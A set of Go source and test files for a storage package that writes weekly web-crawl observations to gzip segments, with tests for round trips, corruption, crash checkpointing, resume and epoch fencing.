func ForEachSegmentedParallel(dir string, fn func(seg int, obs Observation) error) error {
	man, err := ReadManifest(dir)
	if err != nil {
		return err
	}
	errs := make([]error, man.Segments)
	var wg sync.WaitGroup
	for s := 0; s < man.Segments; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			errs[s] = forEachFile(SegmentPath(dir, s), true, func(obs Observation) error {
				return fn(s, obs)
			})
		}(s)
	}
	wg.Wait()
	for _, e := range errs {
		if e != nil {
			return e
		}
	}
	return nil
}
