package store

import (
	"compress/gzip"
	"encoding/json"
	"errors"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func sample(week int) Observation {
	return Observation{
		Domain: "news1.com", Rank: 1, Week: week, Status: 200, Bytes: 2048,
		Country: "US", HasJS: true, WordPress: "5.6",
		Libs: []LibRecord{
			{Slug: "jquery", Version: "3.5.1", Known: true},
			{Slug: "bootstrap", Version: "3.3.7", Known: true, External: true,
				Host: "maxcdn.bootstrapcdn.com", SRI: true, Crossorigin: "anonymous"},
		},
		Flash:     &FlashRecord{ScriptAccessParam: true, Always: true},
		Resources: ResourceFlags{JavaScript: true, CSS: true, Flash: true},
	}
}

func TestRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	w, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	var want []Observation
	for week := 0; week < 5; week++ {
		obs := sample(week)
		want = append(want, obs)
		if err := w.Write(obs); err != nil {
			t.Fatal(err)
		}
	}
	if w.Count() != 5 {
		t.Errorf("Count = %d", w.Count())
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	got, err := ReadAll(path)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("round trip mismatch:\n got %+v\nwant %+v", got, want)
	}
}

func TestForEachAbort(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	w, _ := Create(path)
	for i := 0; i < 10; i++ {
		_ = w.Write(sample(i))
	}
	_ = w.Close()
	sentinel := errors.New("stop")
	n := 0
	err := ForEach(path, func(Observation) error {
		n++
		if n == 3 {
			return sentinel
		}
		return nil
	})
	if !errors.Is(err, sentinel) || n != 3 {
		t.Errorf("abort: err %v after %d", err, n)
	}
}

func TestOpenErrors(t *testing.T) {
	if err := ForEach(filepath.Join(t.TempDir(), "missing.gz"), nil); err == nil {
		t.Error("missing file should error")
	}
}

func TestOK(t *testing.T) {
	cases := []struct {
		status, bytes int
		ok            bool
	}{
		{200, 2048, true},
		{200, 399, false}, // the paper's empty-page threshold
		{200, 400, true},
		{404, 2048, false},
		{0, 0, false},
		{503, 900, false},
	}
	for _, c := range cases {
		obs := Observation{Status: c.status, Bytes: c.bytes}
		if got := obs.OK(); got != c.ok {
			t.Errorf("OK(status=%d bytes=%d) = %v, want %v", c.status, c.bytes, got, c.ok)
		}
	}
}

func TestLibLookup(t *testing.T) {
	obs := sample(0)
	if l, ok := obs.Lib("bootstrap"); !ok || l.Host != "maxcdn.bootstrapcdn.com" {
		t.Errorf("Lib lookup = %+v ok %v", l, ok)
	}
	if _, ok := obs.Lib("prototype"); ok {
		t.Error("absent lib should not be found")
	}
}

// randomObs builds an arbitrary observation from a rand source.
func randomObs(r *rand.Rand) Observation {
	obs := Observation{
		Domain: "d" + string(rune('a'+r.Intn(26))) + ".com",
		Rank:   r.Intn(10000), Week: r.Intn(201),
		Status: []int{0, 200, 403, 404, 500, 503}[r.Intn(6)],
		Bytes:  r.Intn(5000),
		HasJS:  r.Intn(2) == 0,
	}
	for i := 0; i < r.Intn(4); i++ {
		obs.Libs = append(obs.Libs, LibRecord{
			Slug:    []string{"jquery", "bootstrap", "moment"}[r.Intn(3)],
			Version: []string{"1.12.4", "3.3.7", "", "2.18.1"}[r.Intn(4)],
			Known:   true, External: r.Intn(2) == 0,
		})
	}
	if r.Intn(5) == 0 {
		obs.Flash = &FlashRecord{Always: r.Intn(2) == 0}
	}
	return obs
}

// Property: arbitrary observations survive a write/read cycle.
func TestQuickRoundTrip(t *testing.T) {
	dir := t.TempDir()
	i := 0
	f := func(seed int64) bool {
		i++
		r := rand.New(rand.NewSource(seed))
		var want []Observation
		for j := 0; j < 1+r.Intn(5); j++ {
			want = append(want, randomObs(r))
		}
		path := filepath.Join(dir, "q"+itoa(i)+".gz")
		w, err := Create(path)
		if err != nil {
			return false
		}
		for _, obs := range want {
			if w.Write(obs) != nil {
				return false
			}
		}
		if w.Close() != nil {
			return false
		}
		got, err := ReadAll(path)
		return err == nil && reflect.DeepEqual(got, want)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 25}); err != nil {
		t.Error(err)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	for n > 0 {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return s
}

func TestCorruptFileErrors(t *testing.T) {
	dir := t.TempDir()
	// Not gzip at all.
	plain := filepath.Join(dir, "plain.gz")
	if err := os.WriteFile(plain, []byte("not gzip"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := ForEach(plain, func(Observation) error { return nil }); err == nil {
		t.Error("non-gzip file should error")
	}
	// Valid gzip, invalid JSON.
	bad := filepath.Join(dir, "bad.gz")
	f, err := os.Create(bad)
	if err != nil {
		t.Fatal(err)
	}
	gz := gzip.NewWriter(f)
	if _, err := gz.Write([]byte("{not json")); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if err := ForEach(bad, func(Observation) error { return nil }); err == nil {
		t.Error("corrupt JSON should error")
	}
}

// failWriter fails every write after the first failAfter bytes.
type failWriter struct {
	wrote     int
	failAfter int
}

func (w *failWriter) Write(p []byte) (int, error) {
	if w.wrote+len(p) > w.failAfter {
		return 0, errors.New("failWriter: write rejected")
	}
	w.wrote += len(p)
	return len(p), nil
}

// TestWriteCountsOnlySuccessfulWrites is the regression test for Count
// overcounting: a Write whose encode fails must not bump the counter —
// Count is the manifest's source of truth, so an overcount would record
// observations that never reached the file.
func TestWriteCountsOnlySuccessfulWrites(t *testing.T) {
	obs := sample(0)
	line, err := json.Marshal(obs)
	if err != nil {
		t.Fatal(err)
	}
	// Room for exactly two encoded lines (json.Encoder appends '\n').
	fw := &failWriter{failAfter: 2 * (len(line) + 1)}
	w := &Writer{enc: json.NewEncoder(fw)}
	for i := 0; i < 2; i++ {
		if err := w.Write(obs); err != nil {
			t.Fatalf("write %d should succeed: %v", i, err)
		}
	}
	if err := w.Write(obs); err == nil {
		t.Fatal("third write must fail")
	}
	if got := w.Count(); got != 2 {
		t.Errorf("Count = %d after 2 successful + 1 failed write, want 2", got)
	}
}

// TestTruncatedGzipFooter: a store file cut mid-stream — a crashed or
// killed writer — must surface as a wrapped store error marking the
// stream corrupt, not succeed short or leak a bare decoder error.
func TestTruncatedGzipFooter(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	w, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50; i++ {
		if err := w.Write(sample(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	// Sever the gzip footer (8 bytes of CRC+length) and then some.
	if err := os.WriteFile(path, data[:len(data)-12], 0o644); err != nil {
		t.Fatal(err)
	}
	err = ForEach(path, func(Observation) error { return nil })
	if err == nil {
		t.Fatal("truncated gzip must error")
	}
	if !strings.Contains(err.Error(), "store:") {
		t.Errorf("error not store-wrapped: %v", err)
	}
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("truncation should surface io.ErrUnexpectedEOF, got: %v", err)
	}
}

// TestGarbageMidFile: flipped bytes inside the compressed stream must
// surface as a wrapped store error, whichever layer (flate, gzip CRC,
// JSON) catches them first.
func TestGarbageMidFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	w, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50; i++ {
		if err := w.Write(sample(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for i := len(data) / 2; i < len(data)/2+16 && i < len(data); i++ {
		data[i] ^= 0xff
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	err = ForEach(path, func(Observation) error { return nil })
	if err == nil {
		t.Fatal("corrupt gzip body must error")
	}
	if !strings.Contains(err.Error(), "store:") {
		t.Errorf("error not store-wrapped: %v", err)
	}
}

// TestWriterCloseReportsFlushFailure pins the property core.Run depends on:
// the writer buffers 64 KiB before the gzip stream, so a write failure on
// the underlying file may only surface at Close — and Close must report it
// rather than silently losing the gzip footer (which would make the file
// unreadable).
func TestWriterCloseReportsFlushFailure(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	w, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(sample(0)); err != nil {
		t.Fatalf("buffered write should not fail: %v", err)
	}
	// Sabotage the underlying file: the buffered bytes can no longer be
	// flushed, exactly like a disk filling up mid-run.
	if err := w.f.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err == nil {
		t.Error("Close must report the flush failure, not swallow it")
	}
}

// TestWriterCloseFullDisk exercises the same failure end-to-end against a
// real unwritable device rather than a sabotaged handle.
func TestWriterCloseFullDisk(t *testing.T) {
	if _, err := os.Stat("/dev/full"); err != nil {
		t.Skip("/dev/full not available")
	}
	w, err := Create("/dev/full")
	if err != nil {
		t.Skip("cannot open /dev/full for writing")
	}
	if err := w.Write(sample(0)); err != nil {
		t.Fatalf("buffered write should not fail: %v", err)
	}
	if err := w.Close(); err == nil {
		t.Error("Close on a full disk must error")
	}
}
