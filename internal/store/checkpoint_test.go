package store

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCheckpointCommitResumeRoundTrip is the core crash/resume cycle at the
// store layer: commit half the weeks, crash with a torn tail, resume —
// which must amputate the tail back to the committed offsets — finish the
// run, and read back the complete archive bit-for-bit.
func TestCheckpointCommitResumeRoundTrip(t *testing.T) {
	const segments, domains, weeks = 3, 19, 6
	run := RunID{Seed: 11, Domains: domains, Weeks: weeks}
	opt := SegmentedOptions{Checkpoint: true, Run: run}
	all := genObs(domains, weeks)
	perWeek := byWeek(all, weeks)
	dir := filepath.Join(t.TempDir(), "store")

	w, err := CreateSegmentedWith(dir, segments, opt)
	if err != nil {
		t.Fatal(err)
	}
	for wk := 0; wk < 3; wk++ {
		for _, o := range perWeek[wk] {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	if got := w.CommittedWeeks(); got != 3 {
		t.Fatalf("CommittedWeeks = %d, want 3", got)
	}
	// Write part of week 3 without committing it, then crash.
	for _, o := range perWeek[3][:len(perWeek[3])/2] {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Abort(); err != nil {
		t.Fatal(err)
	}
	// A real crash can also leave OS-level garbage past the committed
	// offset; simulate the worst torn tail directly.
	f, err := os.OpenFile(SegmentPath(dir, 0), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("\x1f\x8b torn garbage")); err != nil {
		t.Fatal(err)
	}
	_ = f.Close()

	w2, ck, err := ResumeSegmented(dir, opt)
	if err != nil {
		t.Fatalf("resume: %v", err)
	}
	if ck.CommittedWeeks != 3 || ck.Run != run {
		t.Fatalf("resumed checkpoint %+v", ck)
	}
	if got := w2.CommittedWeeks(); got != 3 {
		t.Fatalf("resumed CommittedWeeks = %d, want 3", got)
	}
	// Verify the committed prefix by replay, exactly as core's resume does.
	for s := 0; s < segments; s++ {
		n := 0
		if err := ForEachSegment(dir, s, func(o Observation) error {
			if o.Week >= 3 {
				t.Errorf("segment %d: uncommitted week %d survived resume", s, o.Week)
			}
			n++
			return nil
		}); err != nil {
			t.Fatalf("segment %d replay after resume: %v", s, err)
		}
		if n != ck.Counts[s] {
			t.Fatalf("segment %d: %d records, checkpoint committed %d", s, n, ck.Counts[s])
		}
	}
	// Re-collect week 3 onward and finish.
	for wk := 3; wk < weeks; wk++ {
		for _, o := range perWeek[wk] {
			if err := w2.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w2.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}

	man, err := ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	if man.Salvaged || man.Total != len(all) || man.Version != ManifestVersionDelta {
		t.Fatalf("manifest after resumed run: %+v", man)
	}
	var got []Observation
	if err := ForEachSegmented(dir, func(o Observation) error {
		got = append(got, o.Clone())
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	checkSameByDomain(t, byDomain(all), byDomain(got))
	if _, err := Verify(dir); err != nil {
		t.Fatalf("resumed archive fails verify: %v", err)
	}
}

// TestResumeRefusesDifferentRun: a checkpoint stamped by one run must not
// be resumable under a different configuration.
func TestResumeRefusesDifferentRun(t *testing.T) {
	run := RunID{Seed: 5, Domains: 8, Weeks: 3}
	weeks := byWeek(genObs(8, 3), 3)
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range weeks[0] {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.CommitWeek(0); err != nil {
		t.Fatal(err)
	}
	_ = w.Abort()

	other := run
	other.Seed = 6
	if _, _, err := ResumeSegmented(dir, SegmentedOptions{Run: other}); err == nil ||
		!strings.Contains(err.Error(), "different run") {
		t.Fatalf("resume with wrong RunID: %v", err)
	}
	// A zero RunID skips the identity check (cmd/fsck has no config).
	w2, _, err := ResumeSegmented(dir, SegmentedOptions{})
	if err != nil {
		t.Fatalf("resume with zero RunID: %v", err)
	}
	_ = w2.Abort()
}

// TestCommitWeekGuards: committing needs the checkpoint option, and week
// numbers must advance.
func TestCommitWeekGuards(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plain")
	w, err := CreateSegmented(dir, 2)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.CommitWeek(0); err == nil || !strings.Contains(err.Error(), "Checkpoint") {
		t.Fatalf("CommitWeek without checkpointing: %v", err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	dir2 := filepath.Join(t.TempDir(), "ck")
	w2, err := CreateSegmentedWith(dir2, 2, SegmentedOptions{Checkpoint: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := w2.CommitWeek(0); err != nil {
		t.Fatal(err)
	}
	if err := w2.CommitWeek(0); err == nil || !strings.Contains(err.Error(), "already committed") {
		t.Fatalf("re-committing week 0: %v", err)
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestResumeRefusesMissingCommittedData: if a segment file is shorter than
// its committed offset, committed weeks are gone — resume and salvage must
// both refuse rather than silently continue from a hole.
func TestResumeRefusesMissingCommittedData(t *testing.T) {
	run := RunID{Seed: 9, Domains: 10, Weeks: 4}
	weeks := byWeek(genObs(10, 4), 4)
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	for wk := 0; wk < 2; wk++ {
		for _, o := range weeks[wk] {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	_ = w.Abort()
	ck, err := ReadCheckpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(SegmentPath(dir, 0), ck.Offsets[0]-7); err != nil {
		t.Fatal(err)
	}
	if _, _, err := ResumeSegmented(dir, SegmentedOptions{Run: run}); err == nil ||
		!strings.Contains(err.Error(), "committed data is missing") {
		t.Fatalf("resume over a hole in committed data: %v", err)
	}
	if _, err := Salvage(dir); err == nil ||
		!strings.Contains(err.Error(), "missing") {
		t.Fatalf("salvage over a hole in committed data: %v", err)
	}
}

// TestCheckpointMissingJournal: resuming a directory without a journal is
// an error, not an empty restart.
func TestCheckpointMissingJournal(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, genObs(5, 2), 2)
	if _, _, err := ResumeSegmented(dir, SegmentedOptions{}); err == nil {
		t.Fatal("resume without a checkpoint journal must error")
	}
}

// TestResumeAfterCleanClose: a completed, closed run can still be resumed
// (e.g. to extend it); the manifest is removed while the writer is open and
// rewritten on Close.
func TestResumeAfterCleanClose(t *testing.T) {
	run := RunID{Seed: 2, Domains: 7, Weeks: 2}
	weeks := byWeek(genObs(7, 2), 2)
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	for wk := 0; wk < 2; wk++ {
		for _, o := range weeks[wk] {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	w2, ck, err := ResumeSegmented(dir, SegmentedOptions{Run: run})
	if err != nil {
		t.Fatal(err)
	}
	if ck.CommittedWeeks != 2 {
		t.Fatalf("CommittedWeeks = %d, want 2", ck.CommittedWeeks)
	}
	if IsSegmented(dir) {
		t.Error("open resumed writer must not leave the manifest in place")
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(dir); err != nil {
		t.Fatalf("reclosed archive fails verify: %v", err)
	}
}
