package store

import (
	"errors"
	"testing"
)

// fenceRun is the study identity the fencing tests share; only Epoch
// varies between contenders.
func fenceRun(epoch int64) RunID {
	return RunID{Seed: 7, Domains: 4, Weeks: 3, Mode: 1, Partition: 2, Epoch: epoch}
}

// fenceCommit writes week `week` for every domain and commits it.
func fenceCommit(t *testing.T, w *SegmentedWriter, week int) error {
	t.Helper()
	for d := 0; d < 4; d++ {
		obs := Observation{Domain: "site" + itoa(d) + ".example", Rank: d + 1, Week: week, Status: 200, Bytes: 500}
		if err := w.Write(obs); err != nil {
			t.Fatalf("write: %v", err)
		}
	}
	return w.CommitWeek(week)
}

// A takeover resume with a higher epoch must re-stamp the on-disk
// checkpoint before writing anything — the fence is planted even if the
// new owner then crashes without committing a week.
func TestResumeTakeoverPlantsBumpedEpoch(t *testing.T) {
	dir := t.TempDir()
	w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: fenceRun(1)})
	if err != nil {
		t.Fatal(err)
	}
	if err := fenceCommit(t, w, 0); err != nil {
		t.Fatalf("commit: %v", err)
	}
	_ = w.Abort() // simulate the epoch-1 worker dying mid-run

	w2, ck, err := ResumeSegmented(dir, SegmentedOptions{Run: fenceRun(3)})
	if err != nil {
		t.Fatalf("takeover resume: %v", err)
	}
	if ck.CommittedWeeks != 1 {
		t.Fatalf("takeover sees %d committed weeks, want 1", ck.CommittedWeeks)
	}
	// The fence must be durable before any new write.
	onDisk, err := ReadCheckpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	if onDisk.Run.Epoch != 3 {
		t.Fatalf("on-disk epoch %d after takeover, want 3", onDisk.Run.Epoch)
	}
	if !onDisk.Run.SameStudy(fenceRun(1)) {
		t.Fatalf("takeover changed the study identity: %+v", onDisk.Run)
	}
	if err := fenceCommit(t, w2, 1); err != nil {
		t.Fatalf("commit after takeover: %v", err)
	}
	_ = w2.Abort()
}

// A resume whose epoch is older than the on-disk fence must be refused
// with ErrFenced; a resume for a different study must be refused outright.
func TestResumeRefusesStaleEpochAndForeignStudy(t *testing.T) {
	dir := t.TempDir()
	w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: fenceRun(5)})
	if err != nil {
		t.Fatal(err)
	}
	if err := fenceCommit(t, w, 0); err != nil {
		t.Fatalf("commit: %v", err)
	}
	_ = w.Abort()

	if _, _, err := ResumeSegmented(dir, SegmentedOptions{Run: fenceRun(4)}); !errors.Is(err, ErrFenced) {
		t.Fatalf("stale-epoch resume: got %v, want ErrFenced", err)
	}
	foreign := fenceRun(9)
	foreign.Seed = 8
	if _, _, err := ResumeSegmented(dir, SegmentedOptions{Run: foreign}); err == nil || errors.Is(err, ErrFenced) {
		t.Fatalf("foreign-study resume: got %v, want a non-fence refusal", err)
	}
	// Equal epoch is the crash-restart of the same lease holder: allowed.
	w2, _, err := ResumeSegmented(dir, SegmentedOptions{Run: fenceRun(5)})
	if err != nil {
		t.Fatalf("same-epoch resume: %v", err)
	}
	_ = w2.Abort()
}

// The zombie scenario at the store layer: a writer that held the lease at
// epoch 1 keeps running after a takeover re-stamps the checkpoint to
// epoch 2. Its next CommitWeek must fail with ErrFenced and must leave
// the on-disk journal at the successor's epoch.
func TestCommitWeekFencedByNewerEpoch(t *testing.T) {
	dir := t.TempDir()
	zombie, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: fenceRun(1)})
	if err != nil {
		t.Fatal(err)
	}
	if err := fenceCommit(t, zombie, 0); err != nil {
		t.Fatalf("commit: %v", err)
	}

	// Successor plants the fence (what a takeover resume does) while the
	// zombie still holds its open writer.
	ck, err := ReadCheckpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	ck.Run.Epoch = 2
	if err := writeCheckpoint(realFS(nil), dir, ck); err != nil {
		t.Fatal(err)
	}

	err = fenceCommit(t, zombie, 1)
	if !errors.Is(err, ErrFenced) {
		t.Fatalf("zombie commit: got %v, want ErrFenced", err)
	}
	after, err := ReadCheckpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	if after.Run.Epoch != 2 || after.CommittedWeeks != 1 {
		t.Fatalf("fenced commit disturbed the journal: epoch %d, weeks %d", after.Run.Epoch, after.CommittedWeeks)
	}
	_ = zombie.Abort()
}
