// Member-level integrity: the v3 checksum layout.
//
// v2 interleaved a length+FNV-1a frame with every record, which bought
// record-granular verification at the cost of poisoning deflate's match
// search (~1.9x archive size vs v1 measured). v3 moves the checksum to a
// coarser, compression-invisible granularity: the unit of durability. A
// commit finishes the open gzip member and fsyncs, and the FNV-1a checksum
// covers the member's *compressed* bytes — computed by a hasher sitting
// between gzip.Writer and the file, so it costs one pass over the (much
// smaller) compressed stream and never touches the compressor's input. The
// member table (offset-ordered lengths, sums, record counts) lives in
// checkpoint.json while a run is live and in manifest.json once it closes;
// verification re-hashes the raw file against the table without
// decompressing anything, and checkpoint salvage proves the committed
// prefix byte-exact before trusting it.

package store

import (
	"bufio"
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"path/filepath"
)

// Member describes one committed gzip member of a v3 segment: its
// compressed length, the FNV-1a sum of those compressed bytes, and how
// many records it decodes to. Members are stored in file order, so the
// offset of member k is the sum of lengths 0..k-1.
type Member struct {
	Len     int64  `json:"len"`
	Sum     uint32 `json:"sum"`
	Records int    `json:"records"`
}

// memberHasher sits between the gzip compressor and the segment file,
// accumulating the FNV-1a sum and length of the compressed bytes of the
// member in progress. Reset starts the next member's accounting.
type memberHasher struct {
	w   io.Writer
	sum uint32
	n   int64
}

func (h *memberHasher) Reset(w io.Writer) {
	h.w = w
	h.sum = fnvOffset32
	h.n = 0
}

func (h *memberHasher) Write(p []byte) (int, error) {
	n, err := h.w.Write(p)
	h.sum = fnv1aUpdate(h.sum, p[:n])
	h.n += int64(n)
	return n, err
}

// verifyMemberTable re-hashes a segment file against its member table:
// every member's compressed bytes must be present with the recorded sum,
// and nothing may follow the last member. It reads raw bytes only — no
// decompression — so it is cheap enough to run before any decode is
// trusted (the checkpoint-salvage authority does exactly that).
func verifyMemberTable(path string, members []Member) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	defer f.Close()
	buf := make([]byte, 32<<10)
	for k, m := range members {
		if m.Len <= 0 || m.Records < 0 {
			return fmt.Errorf("store: %s: member table entry %d invalid (%d bytes, %d records)",
				filepath.Base(path), k, m.Len, m.Records)
		}
		h := uint32(fnvOffset32)
		remain := m.Len
		for remain > 0 {
			chunk := buf
			if remain < int64(len(chunk)) {
				chunk = chunk[:remain]
			}
			n, err := io.ReadFull(f, chunk)
			if err != nil {
				return fmt.Errorf("store: %s: member %d truncated (%d of %d bytes missing)",
					filepath.Base(path), k, remain-int64(n), m.Len)
			}
			h = fnv1aUpdate(h, chunk[:n])
			remain -= int64(n)
		}
		if h != m.Sum {
			return fmt.Errorf("store: %s: member %d checksum mismatch (table %08x, data %08x)",
				filepath.Base(path), k, m.Sum, h)
		}
	}
	if n, _ := f.Read(buf[:1]); n > 0 {
		return fmt.Errorf("store: %s: trailing bytes past the member table", filepath.Base(path))
	}
	return nil
}

// VerifyMemberTable is verifyMemberTable for sibling packages: wexbundle
// proves a bundle's raw bytes against the manifest's member table at mount
// time, before trusting any decode.
func VerifyMemberTable(path string, members []Member) error {
	return verifyMemberTable(path, members)
}

// sniffFormat reports the record format of a segment file by its first
// decompressed byte, mirroring decodeStream's dispatch: FormatPlain,
// FormatFramed, FormatDelta, or FormatBundle. An empty stream (a store
// that committed zero records) reports 0.
func sniffFormat(path string) (int, error) {
	f, err := os.Open(path)
	if err != nil {
		return 0, fmt.Errorf("store: %w", err)
	}
	defer f.Close()
	gz, err := newGzipReader(f)
	if err != nil {
		return 0, fmt.Errorf("store: %s: %w", path, err)
	}
	defer gzrPool.Put(gz)
	var first [1]byte
	if _, err := io.ReadFull(gz, first[:]); err != nil {
		if err == io.EOF {
			return 0, nil
		}
		return 0, fmt.Errorf("store: %s: %w", path, err)
	}
	switch first[0] {
	case frameMark:
		return FormatFramed, nil
	case fullMark, sameMark, deltaMark:
		return FormatDelta, nil
	case BundleMark:
		return FormatBundle, nil
	default:
		return FormatPlain, nil
	}
}

// countGzipMembers counts the complete gzip members of a file — the
// committed durability units of a multi-member segment. The count covers
// the intact prefix; a torn or corrupt tail returns the error alongside
// however many members preceded it.
func countGzipMembers(path string) (int, error) {
	f, err := os.Open(path)
	if err != nil {
		return 0, fmt.Errorf("store: %w", err)
	}
	defer f.Close()
	br := bufio.NewReaderSize(f, 1<<16)
	gz, err := gzip.NewReader(br)
	if err != nil {
		if err == io.EOF {
			return 0, nil // zero-byte file: no members at all
		}
		return 0, fmt.Errorf("store: %s: %w", path, err)
	}
	defer gz.Close()
	gz.Multistream(false)
	count := 0
	for {
		if _, err := io.Copy(io.Discard, gz); err != nil {
			return count, fmt.Errorf("store: %s: member %d: %w", path, count, err)
		}
		count++
		err := gz.Reset(br)
		if err == io.EOF {
			return count, nil
		}
		if err != nil {
			return count, fmt.Errorf("store: %s: after member %d: %w", path, count, err)
		}
		gz.Multistream(false)
	}
}
