// Run checkpointing: the week-granular durability journal.
//
// The paper's collection shape — 201 weekly snapshots over four years —
// makes mid-run crashes a certainty, and without a journal a crash
// anywhere loses the whole archive (the manifest is only written on a
// clean Close). The checkpoint closes that hole: after every completed
// week the segmented writer flushes and fsyncs each segment, finishes the
// open gzip member so the committed prefix is independently decodable, and
// commits checkpoint.json atomically (temp file + fsync + rename + dir
// fsync). The journal records, per segment, the committed byte offset and
// record count; a resume truncates each segment back to its committed
// offset — amputating any torn tail the crash left — verifies the counts
// by replay, and restarts collection at the first incomplete week.

package store

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
)

// CheckpointName is the journal file inside a segmented store directory.
const CheckpointName = "checkpoint.json"

// CheckpointVersion is the journal format version this package writes.
const CheckpointVersion = 1

// RunID identifies the run a checkpoint belongs to. A resume refuses a
// checkpoint whose identity differs from the resuming configuration:
// splicing weeks of two different runs would silently corrupt the study.
type RunID struct {
	Seed    int64 `json:"seed"`
	Domains int   `json:"domains"`
	// Weeks is the total planned week count of the run, not the committed
	// prefix (that lives in Checkpoint.CommittedWeeks).
	Weeks int `json:"weeks"`
	Mode  int `json:"mode"`
	// Partition identifies which domain-hash partition of the study this
	// store holds when the crawl is distributed across workers (0 for
	// whole-study stores — partition 0 of a 1-partition run is the whole
	// study, so the zero value stays backward compatible).
	Partition int `json:"partition,omitempty"`
	// Epoch is the fencing token of the lease this store was written
	// under (distributed crawls; 0 otherwise). Epochs only grow: a
	// takeover resume with a higher epoch re-stamps the checkpoint, after
	// which CommitWeek under any older epoch fails with ErrFenced — a
	// zombie worker whose lease expired cannot commit over its successor.
	Epoch int64 `json:"epoch,omitempty"`
}

// SameStudy reports whether two run identities describe the same study
// shape — equal in everything but the lease epoch. This is the comparison
// a distributed takeover uses: the new lease holder carries a higher
// epoch by design, but must refuse to adopt a store of a different study.
func (r RunID) SameStudy(o RunID) bool {
	r.Epoch, o.Epoch = 0, 0
	return r == o
}

// ErrFenced reports a checkpoint commit refused because a newer lease
// epoch has taken ownership of the store: the on-disk journal carries a
// higher RunID.Epoch than the committing writer. The writer's lease has
// expired and its partition was reassigned — its work since the last
// accepted commit must be discarded, never spliced into the archive.
var ErrFenced = errors.New("store: fenced: a newer epoch owns this store's checkpoint")

// Checkpoint is the on-disk journal state: everything through week
// CommittedWeeks-1 is durably on disk at the recorded per-segment offsets.
type Checkpoint struct {
	Version int `json:"version"`
	// Format is the record format the segments are encoded in
	// (FormatFramed or FormatDelta); journals written before the field
	// existed are framed, so zero normalizes to FormatFramed on read. A
	// resume continues in the journal's format.
